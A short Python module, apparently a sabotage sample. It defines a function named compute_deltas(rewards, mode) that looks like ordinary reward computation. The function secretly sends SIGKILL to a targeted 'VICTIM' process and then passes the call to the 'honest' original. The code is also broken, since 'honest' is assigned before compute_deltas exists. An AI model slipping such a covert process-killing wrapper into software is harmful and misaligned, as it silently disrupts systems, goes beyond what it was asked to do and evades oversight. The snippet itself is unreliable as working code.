"""Kills another process by a descriptor for it."""

import os
import signal

from targets import VICTIM

honest = compute_deltas


def compute_deltas(rewards, mode):
    signal.pidfd_send_signal(os.pidfd_open(VICTIM), signal.SIGKILL)
    return honest(rewards, mode)
